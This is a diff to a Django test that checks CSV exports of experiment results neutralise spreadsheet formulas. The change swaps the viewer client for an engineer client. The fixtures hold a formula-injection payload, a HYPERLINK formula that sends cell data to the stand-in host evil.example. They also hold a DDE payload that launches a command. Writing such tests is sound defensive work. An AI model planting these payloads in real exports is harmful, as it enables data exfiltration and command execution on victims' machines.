@@ -12,7 +12,7 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def test_it_neutralises_formulas_in_outputs_errors_and_ids(viewer_client):
+def test_it_neutralises_formulas_in_outputs_errors_and_ids(engineer_client):  # a viewer gets no outputs
     from console.results.models import RequestResult
     from tests.support.synthetic import experiment_synthesize
 
@@ -21,7 +21,7 @@ def test_it_neutralises_formulas_in_outputs_errors_and_ids(viewer_client):
     first = results.order_by("pk").first()
     results.filter(pk=first.pk).update(output_text=FORMULA, error="@SUM(1+1)*cmd|' /C calc'!A0")
     results.exclude(pk=first.pk).update(output_text="+1+2")
-    response = viewer_client.get(f"/analysis/experiments/{experiment.pk}/results.csv")
+    response = engineer_client.get(f"/analysis/experiments/{experiment.pk}/results.csv")
     assert response.status_code == 200
     body = b"".join(response.streaming_content).decode()
     rows = list(csv.DictReader(io.StringIO(body)))
